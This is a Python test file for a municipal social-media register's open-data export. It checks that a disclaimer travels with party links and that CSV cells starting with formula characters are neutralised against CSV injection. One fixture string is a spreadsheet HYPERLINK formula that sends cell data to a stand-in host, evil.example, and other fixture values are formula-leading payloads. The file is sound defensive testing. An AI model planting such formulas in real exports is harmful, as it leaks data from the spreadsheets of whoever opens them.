"""Open data of the register: the party links' disclaimer travels with the links, and no cell
of the CSV is read as a formula by a spreadsheet (OWASP, CSV injection)."""

import csv
import io

import pytest

from channels import services
from tests.factories import ChannelFactory, PartyFactory, PartyLinkFactory, UnitFactory

pytestmark = pytest.mark.django_db

DISCLAIMER = "Kommunen äger inte och ansvarar inte för innehållet på de länkade sidorna."
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"Klicka här")'


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.fixture
def published(ingrid, library):
    ChannelFactory(unit=library, account_name="Bibblan på Facebook")
    PartyLinkFactory(party=PartyFactory(name="Kommunpartiet"))
    return services.publish_register(by=ingrid)


@pytest.fixture
def hostile(ingrid):
    """A published version whose names a spreadsheet would run as formulas."""
    unit = UnitFactory(name="+Verksamhet")
    ChannelFactory(unit=unit, account_name=HYPERLINK)
    ChannelFactory(unit=unit, account_name="@SUM(1+1)")
    ChannelFactory(unit=unit, account_name="-2+3")
    ChannelFactory(unit=unit, account_name="\tflik")
    ChannelFactory(unit=unit, account_name="\rvagnretur")
    PartyLinkFactory(party=PartyFactory(name="=1+1"))
    return services.publish_register(by=ingrid)


@pytest.mark.parametrize("url", ["/sociala-medier.json", "/sociala-medier/versioner/1.json"])
def test_json_carries_the_party_link_disclaimer(client, published, url):
    data = client.get(url).json()

    assert DISCLAIMER in data["party_links_disclaimer"]


@pytest.mark.parametrize("url", ["/sociala-medier.csv", "/sociala-medier/versioner/1.csv"])
def test_csv_party_link_rows_carry_the_disclaimer(client, published, url):
    rows = _csv_rows(client.get(url))

    assert rows[0][6] == "anmärkning"
    party_rows = [row for row in rows if row[0] == "partilänk"]
    assert party_rows
    assert all(DISCLAIMER in row[6] for row in party_rows)
    assert all(row[6] == "" for row in rows if row[0] == "kanal")


def test_older_version_gets_the_disclaimer_too(client, published, ingrid, library):
    ChannelFactory(unit=library, account_name="Bibblan på YouTube")
    services.publish_register(by=ingrid)

    data = client.get("/sociala-medier/versioner/1.json").json()
    rows = _csv_rows(client.get("/sociala-medier/versioner/1.csv"))

    assert DISCLAIMER in data["party_links_disclaimer"]
    assert DISCLAIMER in rows[-1][6]


@pytest.mark.parametrize("url", ["/sociala-medier.csv", "/sociala-medier/versioner/1.csv"])
def test_csv_cells_that_spreadsheets_read_as_formulas_are_neutralised(client, hostile, url):
    rows = _csv_rows(client.get(url))

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    names = {row[2] for row in rows[1:]}
    assert "'" + HYPERLINK in names
    assert "'@SUM(1+1)" in names
    assert "'-2+3" in names
    assert "'\tflik" in names
    assert "'\rvagnretur" in names
    assert "'=1+1" in names
    assert {row[5] for row in rows if row[0] == "kanal"} == {"'+Verksamhet"}


def test_json_keeps_names_exactly_as_published(client, hostile):
    data = client.get("/sociala-medier.json").json()

    assert HYPERLINK in {channel["account_name"] for channel in data["channels"]}
